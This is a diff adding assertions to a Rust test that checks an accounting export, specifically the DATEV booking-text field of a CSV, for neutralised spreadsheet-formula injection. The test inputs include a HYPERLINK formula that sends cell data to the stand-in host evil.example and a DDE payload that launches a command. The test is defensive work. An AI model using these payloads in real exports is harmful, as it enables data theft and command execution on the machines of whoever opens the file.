@@ -315,4 +315,12 @@ fn text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised_and_amounts_sta
     assert!(reconciliation.lines().any(|l| l.starts_with("\"'-ch_1002\",charge,succeeded,2026-10-04,USD,21.60,invoiced,")), "{reconciliation}");
     let totals = fs::read_to_string(e.out.join("journal-totals.csv")).unwrap();
     assert!(totals.lines().all(|l| !l.contains('\'')), "{totals}");
+    // DATEV's Buchungstext (field 14) too; the names are ASCII, so CP1252 reads as Latin-1.
+    let datev: String = fs::read(e.out.join("datev/EXTF_Buchungsstapel_2026-10.csv")).unwrap().iter().map(|&b| char::from(b)).collect();
+    let texts: Vec<String> = datev.lines().skip(2).map(|l| l.split(';').nth(13).unwrap().trim_matches('"').replace("\"\"", "\"")).collect();
+    for name in [r#"'=HYPERLINK("http://evil.example/?"&A1,"x")"#, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)"] {
+        assert!(texts.iter().any(|t| t == name), "{name} not in {texts:?}");
+    }
+    assert!(texts.iter().all(|t| !t.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{texts:?}");
+    assert!(texts.iter().any(|t| t.starts_with("Gutschrift zu KL-INV-2026-000002 -2+3")), "{texts:?}");
 }
